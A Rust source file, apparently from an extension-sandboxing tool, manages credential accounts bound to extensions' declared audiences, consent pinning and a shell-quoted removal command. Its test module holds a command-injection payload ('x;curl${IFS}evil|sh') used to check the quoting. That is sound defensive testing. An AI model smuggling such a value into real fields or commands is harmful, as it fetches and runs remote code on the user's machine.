//! Connecting and sharing accounts through a [`Location`]: an account is
//! bound to the audiences the manifest of the extension it is connected for
//! declares, at the moment it is connected, and to that extension; other
//! extensions use it only once the user allows them, and only toward those
//! audiences (the rule itself is [`warden_egress::secrets::account`]).
//! Both gestures, connecting and allowing, are consent to the package
//! installed under the extension's id now: its content is pinned, and a
//! package installed over it later must be allowed again.
//!
//! Packages of one vendor family ([`crate::vendor`]) share accounts: any
//! member may connect the family's account again (the same recipe, so the
//! same account provider and client): connecting through it is the user's
//! consent to it, and adds the audiences it declares. Allowing never adds
//! an audience: a package, of the family or not, reaches only where the
//! account was connected to go.

use std::collections::BTreeSet;

use secrecy::SecretString;
use warden_core::spec::CredentialSpec;
use warden_egress::secrets::{
    Account, AccountAudience, AccountBinding, AccountKey, Requester, SecretError,
};
use warden_manifest::{Implementation, Package};

use crate::location::{InstalledPackage, Location};

/// Why an account could not be connected or shared.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum AccountError {
    /// No package with this id is installed in the Location.
    #[error("no extension `{0}` is installed")]
    UnknownExtension(String),
    /// The extension declares no credential with this vendor and handle.
    #[error("extension `{extension}` declares no credential `{handle}` of vendor `{vendor}`")]
    NotDeclared {
        /// The extension named.
        extension: String,
        /// The vendor asked for.
        vendor: String,
        /// The handle asked for.
        handle: String,
    },
    /// No stored account of this vendor can be shared (none, or none bound).
    #[error("no bound `{0}` account is stored; connect one first with `warden secret set`")]
    NoAccount(String),
    /// The account was connected for another extension: connecting it for
    /// this one would hand it their account (or put its value in theirs).
    #[error(
        "account `{key}` was connected for {owner}, and only {owner} connects it again; \
         `warden secret allow {extension} {vendor}` lets `{extension}` use it (toward the \
         audiences it has), or remove it first with `{remove}`"
    )]
    ConnectedForOthers {
        /// The account (`vendor/handle [scopes]`).
        key: String,
        /// Its vendor.
        vendor: String,
        /// The extension it was to be connected for.
        extension: String,
        /// Who connected it (`` `github` ``, or the extensions allowed).
        owner: String,
        /// The command that removes it.
        remove: String,
    },
    /// The account could not be held against other connects and refreshes.
    #[error("could not hold the account against other connects: {0}")]
    Held(String),
    /// The secret store failed.
    #[error(transparent)]
    Store(#[from] SecretError),
}

/// What one extension declares for one vendor and handle.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeclaredCredential {
    /// The extension.
    pub extension: String,
    /// The content of its installed package that consent is pinned to (see
    /// [`InstalledPackage::consent_content`]); `None` for a server no
    /// package declares (a probe).
    pub content: Option<String>,
    /// Every audience its manifest declares for the credential.
    pub audiences: Vec<AccountAudience>,
    /// Every scope its capabilities ask for with it.
    pub scopes: Vec<String>,
}

impl Location {
    /// The installed extensions that declare credential `vendor`/`handle`,
    /// with the audiences and scopes they declare for it.
    pub fn credential_declarations(&self, vendor: &str, handle: &str) -> Vec<DeclaredCredential> {
        self.installed()
            .iter()
            .filter_map(|installed| declared(installed, vendor, handle))
            .collect()
    }

    /// Store `value` as the account `key`, connected for `extension`: bound
    /// to the audiences that extension's manifest declares for the credential
    /// now (a later manifest never moves it) and usable by that extension.
    /// Storing an account again for the extension it was connected for
    /// keeps the other extensions allowed and adds its audiences; an account
    /// connected for another extension is never connected again for this
    /// one, even once allowed to use it ([`AccountError::ConnectedForOthers`]):
    /// that would let it reach their account (through the stored refresh
    /// material), put its value in their place, or add its audiences to
    /// where their account goes. A stored OAuth grant of the account is
    /// dropped: the value given replaces it.
    pub async fn connect_account(
        &self,
        extension: &str,
        key: &AccountKey,
        value: SecretString,
    ) -> Result<Account, AccountError> {
        let declared = self.declaration(extension, &key.vendor, &key.handle)?;
        let egress = &self.shared.egress;
        // One turn: no other connect or refresh of the account in between.
        let _turn = warden_egress::auth::grant::hold_account(egress, key)
            .await
            .map_err(|e| AccountError::Held(e.to_string()))?;
        self.check_connectable(extension, key).await?;
        // A value given by hand replaces any OAuth grant's: the grant's
        // refresh would put a token of the old grant back in its place.
        let grant = warden_egress::auth::grant::grant_key(key);
        self.shared.egress.store().delete(&grant).await?;
        self.connect_declared(&declared, key, value).await
    }

    /// [`Location::connect_account`] with the declaration given: bound to
    /// `declared.audiences`, usable by `declared.extension`. The probe of an
    /// MCP server (no installed package) connects its account this way. Not
    /// public: its callers hold the account's turn, check it is connectable
    /// and have dealt with its OAuth grant (dropped for a value given by
    /// hand, written first by an OAuth connect).
    pub(crate) async fn connect_declared(
        &self,
        declared: &DeclaredCredential,
        key: &AccountKey,
        value: SecretString,
    ) -> Result<Account, AccountError> {
        let extension = declared.extension.as_str();
        let requester = Requester::of(extension, declared.content.as_deref());
        let audiences = declared.audiences.clone();
        let store = self.shared.egress.store();
        let mut binding = match store.binding(key).await? {
            Some(mut existing) => {
                self.refuse_others(key, extension, &existing)?;
                if existing.audiences.is_empty() {
                    AccountBinding::new(extension, audiences)
                } else {
                    existing.add_audiences(audiences);
                    existing
                }
            }
            None => AccountBinding::new(extension, audiences),
        };
        // Connecting is consent to the package installed now (a family
        // member connecting the family's account joins it).
        binding.allow(requester);
        store.put_bound(key, &binding, value).await?;
        Ok(Account {
            key: key.clone(),
            binding,
        })
    }

    /// Refuse, before anything is stored, to connect `key` for `extension`
    /// when the stored account is bound and `extension` may not use it (see
    /// [`Location::connect_account`]). An OAuth connect asks this before it
    /// keeps the new refresh material.
    pub async fn check_connectable(
        &self,
        extension: &str,
        key: &AccountKey,
    ) -> Result<(), AccountError> {
        match self.shared.egress.store().binding(key).await? {
            Some(existing) => self.refuse_others(key, extension, &existing),
            None => Ok(()),
        }
    }

    /// [`AccountError::ConnectedForOthers`] unless `extension` may connect
    /// the stored account again: the extension it was connected for or a
    /// member of its vendor family, or (for an account stored before that
    /// was recorded) one allowed to use it, or anyone for such an account
    /// not yet bound.
    fn refuse_others(
        &self,
        key: &AccountKey,
        extension: &str,
        existing: &AccountBinding,
    ) -> Result<(), AccountError> {
        let kin =
            |other: &str| other == extension || self.same_family(&key.vendor, extension, other);
        let quoted = |names: &[String]| {
            let quoted: Vec<String> = names.iter().map(|e| format!("`{e}`")).collect();
            quoted.join(", ")
        };
        let owner = match &existing.created_by {
            Some(creator) if kin(creator) => return Ok(()),
            Some(creator) => quoted(std::slice::from_ref(creator)),
            None if existing.audiences.is_empty() => return Ok(()),
            None if existing.extensions.iter().any(|e| kin(e)) => return Ok(()),
            None if existing.extensions.is_empty() => "no extension".to_owned(),
            None => quoted(&existing.extensions),
        };
        Err(AccountError::ConnectedForOthers {
            key: key.to_string(),
            vendor: key.vendor.clone(),
            extension: extension.to_owned(),
            owner,
            remove: remove_command(key),
        })
    }

    /// Allow `extension` to use the stored `vendor` accounts, toward their
    /// own audiences only; the accounts it may now use.
    pub async fn allow_account(
        &self,
        extension: &str,
        vendor: &str,
    ) -> Result<Vec<Account>, AccountError> {
        let installed = self.installed();
        let package = installed
            .iter()
            .find(|p| p.package.id == extension)
            .ok_or_else(|| AccountError::UnknownExtension(extension.to_owned()))?;
        let requester = Requester::new(extension, package.consent_content());
        let store = self.shared.egress.store();
        let accounts = store.allow(vendor, requester).await?;
        if accounts.is_empty() {
            return Err(AccountError::NoAccount(vendor.to_owned()));
        }
        Ok(accounts)
    }

    fn declaration(
        &self,
        extension: &str,
        vendor: &str,
        handle: &str,
    ) -> Result<DeclaredCredential, AccountError> {
        let installed = self.installed();
        let package = installed
            .iter()
            .find(|p| p.package.id == extension)
            .ok_or_else(|| AccountError::UnknownExtension(extension.to_owned()))?;
        declared(package, vendor, handle).ok_or_else(|| AccountError::NotDeclared {
            extension: extension.to_owned(),
            vendor: vendor.to_owned(),
            handle: handle.to_owned(),
        })
    }
}

/// The command that removes `key`, for a person to paste into a shell: its
/// scopes come from a manifest or an authorization server, and a scope token
/// may hold `;`, `$`, `|` or a backtick, so every part is shell-quoted.
fn remove_command(key: &AccountKey) -> String {
    let mut command = format!(
        "warden secret rm {} {}",
        shell_word(&key.vendor),
        shell_word(&key.handle)
    );
    for scope in &key.scopes {
        command.push_str(" --scope ");
        command.push_str(&shell_word(scope));
    }
    command
}

/// `word` as one POSIX shell word: as it is when plain, else single-quoted.
fn shell_word(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.:/@%+=,".contains(c));
    if plain {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

fn declared(
    installed: &InstalledPackage,
    vendor: &str,
    handle: &str,
) -> Option<DeclaredCredential> {
    let package: &Package = &installed.package;
    let mcp = match &package.implementation {
        Implementation::Mcp(server) => server.credentials.as_slice(),
        _ => &[],
    };
    let specs: Vec<&CredentialSpec> = package
        .capabilities
        .iter()
        .flat_map(|c| c.credentials.iter())
        .chain(mcp)
        .filter(|c| c.vendor == vendor && c.handle == handle)
        .collect();
    if specs.is_empty() {
        return None;
    }
    let audiences: BTreeSet<AccountAudience> = specs
        .iter()
        .map(|c| AccountAudience::of(&c.audience))
        .collect();
    let scopes: BTreeSet<String> = specs.iter().flat_map(|c| c.scopes.clone()).collect();
    Some(DeclaredCredential {
        extension: package.id.clone(),
        content: Some(installed.consent_content().to_owned()),
        audiences: audiences.into_iter().collect(),
        scopes: scopes.into_iter().collect(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A hostile manifest's scope (any RFC 6749 scope token) went into the
    /// suggested command as it was: pasted, it ran its own command.
    #[test]
    fn the_remove_command_quotes_what_a_manifest_named() {
        let key = AccountKey::new("github", "gh", ["repo", "x;curl${IFS}evil|sh", "it's"]);
        assert_eq!(
            remove_command(&key),
            r"warden secret rm github gh --scope 'it'\''s' --scope repo --scope 'x;curl${IFS}evil|sh'"
        );
    }
}
